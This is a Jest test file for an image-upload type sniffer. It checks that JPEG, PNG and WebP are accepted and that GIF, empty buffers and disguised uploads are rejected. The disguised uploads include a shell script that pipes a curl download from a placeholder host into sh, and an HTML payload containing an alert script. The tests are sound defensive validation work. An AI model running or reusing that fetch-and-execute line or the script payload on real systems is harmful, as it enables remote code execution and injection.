import sharp from 'sharp';
import { sniffImageType } from './sniff-image-type';
import { solidJpeg, solidPng, solidWebp } from './test-images';

describe('sniffImageType', () => {
  it('recognises JPEG, PNG and WebP by their bytes', async () => {
    expect(await sniffImageType(await solidJpeg(8, 8))).toBe('image/jpeg');
    expect(await sniffImageType(await solidPng(8, 8))).toBe('image/png');
    expect(await sniffImageType(await solidWebp(8, 8))).toBe('image/webp');
  });

  it('rejects a shell script whatever name it was uploaded under', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n', 'utf8');
    expect(await sniffImageType(script)).toBeNull();
  });

  it('rejects HTML pretending to be an image', async () => {
    expect(await sniffImageType(Buffer.from('<html><script>alert(1)</script></html>'))).toBeNull();
  });

  it('rejects image formats that are not accepted for reports, such as GIF', async () => {
    const gif = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } }).gif().toBuffer();
    expect(await sniffImageType(gif)).toBeNull();
  });

  it('rejects an empty upload', async () => {
    expect(await sniffImageType(Buffer.alloc(0))).toBeNull();
  });
});
